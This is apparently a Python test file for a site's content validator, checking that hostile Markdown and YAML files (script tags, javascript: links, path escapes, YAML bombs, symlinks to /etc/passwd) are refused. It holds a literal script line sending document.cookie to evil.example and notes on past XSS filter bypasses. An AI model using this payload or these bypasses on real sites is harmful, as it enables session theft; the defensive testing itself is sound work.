"""The hostile corpus: every bad file is refused with its exact code and line, and the real
content beside it keeps every published case, course and guideline.

Each row puts one file into a copy of the real ``content/`` at the place the corpus mirrors
(``tests/corpus/hostile/cases/script-tag.md`` -> ``content/cases/script-tag.md``). Files that
must not be committed (symbolic links, huge or non-UTF-8 files) are generated at test time.
"""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from casebook.collection import Collection, display_path, load_collection
from casebook.problems import Problem

ROOT = Path(__file__).resolve().parent.parent
REAL = ROOT / "content"
CORPUS = Path(__file__).parent / "corpus" / "hostile"
VALID_CASE = (REAL / "cases" / "kenya-iot-soil-sensors.md").read_text(encoding="utf-8")
CORPUS_CASE = (CORPUS / "cases" / "script-tag.md").read_text(encoding="utf-8")

# (file in the corpus, expected code, expected line)
ROWS: list[tuple[str, str, int]] = [
    # active HTML in the body
    ("cases/script-tag.md", "active-html", 29),
    ("cases/script-tag-mixed-case.md", "active-html", 29),
    ("cases/iframe.md", "active-html", 29),
    ("cases/object-embed.md", "active-html", 29),
    ("cases/object-embed.md", "active-html", 33),
    ("cases/style-tag.md", "active-html", 29),
    ("cases/form.md", "active-html", 29),
    ("cases/onerror-attribute.md", "active-html", 29),
    ("cases/onclick-attribute.md", "active-html", 29),
    ("cases/svg-onload.md", "active-html", 29),
    ("cases/meta-refresh.md", "active-html", 29),
    ("cases/base-href.md", "active-html", 25),
    ("courses/hostile-course/index.md", "active-html", 14),
    # HTML in front matter: plain text, escaped wherever it is shown (ACCEPTED_INERT checks
    # the built pages); the contributor is warned that it will show as written
    ("cases/html-in-title.md", "markup-in-text", 2),
    ("cases/event-handler-in-organisation.md", "markup-in-text", 6),
    ("courses/digital-transformation-for-smes/90-quiz-with-html.md", "markup-in-text", 7),
    # what the sanitiser's policy removes, told to the contributor with the line
    ("cases/css-background-hides-page.md", "active-html", 29),
    ("cases/id-attribute.md", "active-html", 29),
    ("cases/meta-refresh-in-text.md", "active-html", 29),
    ("cases/target-blank-form.md", "active-html", 29),
    ("cases/heading-one-in-body.md", "heading-level", 29),
    ("cases/remote-image.md", "remote-image", 29),
    # links inside the collection lead to published pages only
    ("cases/link-to-a-draft.md", "unpublished-link", 29),
    ("cases/link-to-a-folder.md", "not-a-page", 29),
    ("cases/link-to-a-non-page-file.md", "not-a-page", 29),
    # links that run script, load data or leave the site
    ("cases/javascript-link.md", "unsafe-url", 29),
    ("cases/javascript-reference-link.md", "unsafe-url", 31),
    ("cases/javascript-autolink.md", "unsafe-url", 29),
    ("cases/javascript-source-url.md", "url-scheme", 15),
    ("cases/data-link.md", "unsafe-url", 29),
    ("cases/data-image.md", "unsafe-url", 33),
    ("cases/vbscript-link.md", "unsafe-url", 29),
    ("cases/file-url-link.md", "unsafe-url", 29),
    ("cases/protocol-relative-link.md", "unsafe-url", 29),
    ("cases/http-link.md", "insecure-url", 29),
    # paths out of the content tree
    ("cases/parent-escape-link.md", "unsafe-path", 29),
    ("cases/parent-escape-image.md", "unsafe-path", 33),
    ("cases/absolute-path-link.md", "unsafe-path", 29),
    ("cases/windows-unc-path.md", "unsafe-path", 29),
    # template syntax: never rendered, always refused
    ("cases/jinja-expression-in-body.md", "jinja-syntax", 29),
    ("cases/jinja-comment-in-body.md", "jinja-syntax", 29),
    ("cases/jinja-in-a-code-block.md", "jinja-syntax", 30),
    ("cases/jinja-statement-in-front-matter.md", "jinja-syntax", 2),
    ("cases/render-macros-true.md", "unknown-field", 21),
    ("cases/render-macros-true.md", "jinja-syntax", 30),
    ("guidelines/jinja-in-guideline.md", "jinja-syntax", 13),
    # YAML that tries to run code or exhaust memory
    ("cases/python-object-tag.md", "yaml-tag", 2),
    ("cases/alias-bomb.md", "yaml-alias", 21),
    ("cases/deep-nesting.md", "yaml-too-deep", 21),
    ("cases/duplicate-key.md", "yaml-duplicate-key", 13),
    ("cases/tab-indentation.md", "yaml-tab", 7),
    ("cases/yaml-syntax-error.md", "yaml-syntax", 9),
    ("cases/no-front-matter.md", "missing-front-matter", 1),
    ("cases/unclosed-front-matter.md", "unclosed-front-matter", 1),
    ("cases/front-matter-is-a-list.md", "front-matter-not-mapping", 2),
    ("cases/front-matter-is-text.md", "yaml-syntax", 2),
    # broken content
    ("cases/unknown-key-with-suggestion.md", "unknown-field", 21),
    ("cases/country-name.md", "unknown-country", 4),
    ("cases/future-date.md", "future-date", 20),
    ("cases/updated-before-submitted.md", "date-order", 21),
    ("guidelines/dangling-evidence.md", "dangling-reference", 6),
    ("cases/nested/kenya-iot-soil-sensors.md", "duplicate-slug", 1),
    ("cases/missing-section.md", "missing-section", 22),
    ("cases/sections-out-of-order.md", "section-order", 31),
    ("cases/Bad_File_Name.md", "bad-file-name", 1),
    ("courses/digital-transformation-for-smes/1-bad-module-name.md", "bad-file-name", 1),
    ("cases/placeholder-left-in.md", "placeholder", 33),
    ("cases/diagram.svg", "unexpected-file", 1),
    ("stray-page.md", "unexpected-file", 1),
    # Once validator gaps, each confirmed to run script in Chromium before it was closed:
    # the browser decodes &colon; in an attribute: href="javascript&colon;alert(1)//../x.md"
    ("cases/entity-encoded-javascript-link.md", "unsafe-url", 29),
    # the markup check reads one line at a time; the tag's attribute is on the next line
    ("cases/event-handler-on-next-line.md", "active-html", 30),
    # browsers strip leading spaces from href=" javascript:..."
    ("cases/space-before-javascript.md", "unsafe-url", 29),
]

# The fix a contributor is told, for the rows where the suggestion is the point.
MESSAGES = {
    "cases/unknown-key-with-suggestion.md": "did you mean 'challenges'?",
    "cases/country-name.md": "use the code KE",
}


def test_the_corpus_is_large_and_every_file_is_used() -> None:
    files = {p.relative_to(CORPUS).as_posix() for p in CORPUS.rglob("*") if p.is_file()}
    used = {name for name, _, _ in ROWS}
    assert files == used
    assert len({name for name, _, _ in ROWS}) + len(GENERATED) >= 32


@dataclass(frozen=True)
class Tree:
    root: Path  # the content folder
    outside: Path  # a folder beside it, outside the content tree


@pytest.fixture
def tree(tmp_path: Path) -> Tree:
    root = tmp_path / "content"
    shutil.copytree(REAL, root)
    outside = tmp_path / "outside"
    outside.mkdir()
    return Tree(root, outside)


@dataclass(frozen=True)
class Published:
    cases: frozenset[tuple[str, str]]  # (slug, file relative to the content folder)
    courses: frozenset[str]
    guidelines: frozenset[str]

    @classmethod
    def of(cls, collection: Collection, root: Path) -> Published:
        def relative(path: str) -> str:
            return Path(path).resolve().relative_to(root.resolve()).as_posix()

        return cls(
            frozenset((c.slug, relative(c.path)) for c in collection.published_cases),
            frozenset(c.slug for c in collection.published_courses),
            frozenset(g.slug for g in collection.published_guidelines),
        )


@pytest.fixture(scope="module")
def real() -> Published:
    collection, report = load_collection(REAL)
    assert report.problems == ()
    return Published.of(collection, REAL)


def test_the_real_content_is_clean(real: Published) -> None:
    assert len(real.cases) >= 12 and real.courses and real.guidelines


def check(tree: Tree, real: Published, shown: Path, code: str, line: int) -> list[Problem]:
    collection, report = load_collection(tree.root)
    mine = [p for p in report.problems if p.path == display_path(shown)]
    assert (code, line) in [(p.code, p.line) for p in mine], mine
    after = Published.of(collection, tree.root)
    # A duplicate slug makes both files fail (neither may win silently); every other
    # hostile file leaves the whole real collection in place.
    collided = {slug for slug, _ in real.cases if code == "duplicate-slug" and slug == shown.stem}
    assert {c for c in real.cases if c[0] not in collided} <= after.cases
    assert real.courses <= after.courses and real.guidelines <= after.guidelines
    for slug in collided:
        twin = tree.root / "cases" / f"{slug}.md"
        assert "duplicate-slug" in [p.code for p in report.problems if p.path == display_path(twin)]
    return mine


def place(tree: Tree, name: str) -> Path:
    target = tree.root / name
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(CORPUS / name, target)
    return target


@pytest.mark.parametrize(("name", "code", "line"), ROWS, ids=[f"{n}:{c}:{li}" for n, c, li in ROWS])
def test_a_hostile_file_is_refused_at_its_line(
    tree: Tree, real: Published, name: str, code: str, line: int
) -> None:
    mine = check(tree, real, place(tree, name), code, line)
    if name in MESSAGES:
        assert MESSAGES[name] in " ".join(p.message for p in mine if p.code == code)


# --- files generated at test time -------------------------------------------------------------


def symlink_to_a_file_outside(tree: Tree) -> Path:
    secret = tree.outside / "secret.md"
    secret.write_text(VALID_CASE, encoding="utf-8")
    link = tree.root / "cases" / "symlink-outside.md"
    link.symlink_to(secret)
    return link


def symlink_to_a_folder_outside(tree: Tree) -> Path:
    (tree.outside / "more-cases").mkdir()
    (tree.outside / "more-cases" / "imported-case.md").write_text(VALID_CASE, encoding="utf-8")
    link = tree.root / "cases" / "linked-folder"
    link.symlink_to(tree.outside / "more-cases", target_is_directory=True)
    return link


def symlink_loop(tree: Tree) -> Path:
    first, second = tree.root / "cases" / "loop-a.md", tree.root / "cases" / "loop-b.md"
    first.symlink_to(second)
    second.symlink_to(first)
    return first


def symlink_to_system_file(tree: Tree) -> Path:
    link = tree.root / "guidelines" / "passwd.md"
    link.symlink_to("/etc/passwd")
    return link


def oversized_file(tree: Tree) -> Path:
    path = tree.root / "cases" / "oversized.md"
    filler = "Farmers used less water. " * 12_000  # about 300 KiB of body
    path.write_text(CORPUS_CASE.replace("Smallholder farmers", filler, 1), encoding="utf-8")
    return path


def oversized_front_matter(tree: Tree) -> Path:
    path = tree.root / "cases" / "oversized-front-matter.md"
    padding = "".join(
        f'  - title: "Source {n}"\n    url: "https://example.org/{n}"\n' for n in range(1_500)
    )
    path.write_text(CORPUS_CASE.replace("sources:\n", "sources:\n" + padding, 1), encoding="utf-8")
    return path


def deep_nesting_100000(tree: Tree) -> Path:
    path = tree.root / "cases" / "deep-nesting-100000.md"
    nested = "[" * 100_000 + "]" * 100_000
    path.write_text(
        CORPUS_CASE.replace(
            "submitted: 2025-06-01\n", f"submitted: 2025-06-01\noutcomes: {nested}\n", 1
        ),
        encoding="utf-8",
    )
    return path


def deep_block_nesting(tree: Tree) -> Path:
    path = tree.root / "cases" / "deep-block-nesting.md"
    nested = "  " + "- " * 30_000 + "x"  # 30,000 levels, just under the front-matter limit
    path.write_text(
        CORPUS_CASE.replace(
            "submitted: 2025-06-01\n", f"submitted: 2025-06-01\noutcomes:\n{nested}\n", 1
        ),
        encoding="utf-8",
    )
    return path


def latin1_file(tree: Tree) -> Path:
    path = tree.root / "cases" / "latin-1.md"
    text = CORPUS_CASE.replace(
        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>", "A café in Nairobi."
    )
    path.write_bytes(text.encode("latin-1"))
    return path


def utf16_file(tree: Tree) -> Path:
    path = tree.root / "cases" / "utf-16.md"
    path.write_bytes(VALID_CASE.encode("utf-16"))
    return path


def nul_bytes_in_front_matter(tree: Tree) -> Path:
    path = tree.root / "cases" / "nul-bytes.md"
    path.write_bytes(
        CORPUS_CASE.replace('name: "Corpus Test Organisation"', 'name: "Corpus\x00Test"', 1).encode(
            "utf-8"
        )
    )
    return path


def variant(name: str, old: str, new: str, encoding: str = "utf-8") -> Callable[[Tree], Path]:
    """A builder: the corpus case with ``old`` replaced by ``new``, as ``cases/<name>.md``."""

    def build(tree: Tree) -> Path:
        path = tree.root / "cases" / f"{name}.md"
        assert old in CORPUS_CASE
        path.write_bytes(CORPUS_CASE.replace(old, new, 1).encode(encoding, "surrogatepass"))
        return path

    return build


def old_mac_line_endings(tree: Tree) -> Path:
    path = tree.root / "cases" / "old-mac-line-endings.md"
    path.write_bytes(CORPUS_CASE.replace("\n", "\r").encode("utf-8"))
    return path


SCRIPT_LINE = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"

# (id, builder, expected code, expected line)
GENERATED: list[tuple[str, Callable[[Tree], Path], str, int]] = [
    (
        "!!binary tag",
        variant("yaml-binary", "year: 2021", "year: !!binary aGVsbG8="),
        "yaml-tag",
        11,
    ),
    ("!!set tag", variant("yaml-set", "sdgs: [2]", "sdgs: !!set {2: null}"), "yaml-tag", 10),
    (
        "'...' ends the YAML",
        variant("yaml-end", "stage: pilot\n", "...\nstage: pilot\n"),
        "yaml-document-end",
        12,
    ),
    (
        "closing '---' with trailing spaces",
        variant("fence-spaces", "2025-06-01\n---\n", "2025-06-01\n---   \n"),
        "front-matter-fence",
        21,
    ),
    ("old Mac line endings", old_mac_line_endings, "line-endings", 1),
    ("infinity", variant("infinite-year", "year: 2021", "year: .inf"), "number-out-of-range", 11),
    ("NaN", variant("nan-year", "year: 2021", "year: .nan"), "number-out-of-range", 11),
    (
        "a number JSON cannot hold",
        variant("huge-year", "year: 2021", "year: " + "9" * 400),
        "number-out-of-range",
        11,
    ),
    (
        "NUL byte in a link target",
        variant("nul-link", SCRIPT_LINE, "See [the report](report\x00.md)."),
        "unsafe-url",
        29,
    ),
    ("NUL byte in front matter", nul_bytes_in_front_matter, "yaml-syntax", 6),
    ("symlink to a file outside", symlink_to_a_file_outside, "unsafe-symlink", 1),
    ("symlink to a folder outside", symlink_to_a_folder_outside, "unsafe-symlink", 1),
    ("symlink to /etc/passwd", symlink_to_system_file, "unsafe-symlink", 1),
    ("a loop of symbolic links", symlink_loop, "unsafe-symlink", 1),
    ("oversized file", oversized_file, "file-too-large", 1),
    ("oversized front matter", oversized_front_matter, "file-too-large", 1),
    ("deep nesting, 100,000 levels", deep_nesting_100000, "file-too-large", 1),
    ("deep block nesting, 30,000 levels", deep_block_nesting, "yaml-too-deep", 22),
    ("non-UTF-8 (Latin-1)", latin1_file, "not-utf8", 29),
    ("non-UTF-8 (UTF-16)", utf16_file, "not-utf8", 1),
]


@pytest.mark.parametrize(
    ("build", "code", "line"), [pytest.param(*g[1:], id=g[0]) for g in GENERATED]
)
def test_a_generated_hostile_file_is_refused(
    tree: Tree, real: Published, build: Callable[[Tree], Path], code: str, line: int
) -> None:
    check(tree, real, build(tree), code, line)


@pytest.fixture
def every_hostile_file(tree: Tree) -> Iterator[Tree]:
    for name in {name for name, _, _ in ROWS}:
        place(tree, name)
    for _, build, _, _ in GENERATED:
        build(tree)
    yield tree


def test_all_at_once_every_file_is_reported_and_no_real_case_is_lost(
    every_hostile_file: Tree, real: Published
) -> None:
    tree = every_hostile_file
    collection, report = load_collection(tree.root)
    found = {(p.path, p.code, p.line) for p in report.problems}
    for name, code, line in ROWS:
        assert (display_path(tree.root / name), code, line) in found, name
    after = Published.of(collection, tree.root)
    collided = {Path(name).stem for name, code, _ in ROWS if code == "duplicate-slug"}
    assert {c for c in real.cases if c[0] not in collided} <= after.cases
    assert real.courses <= after.courses and real.guidelines <= after.guidelines
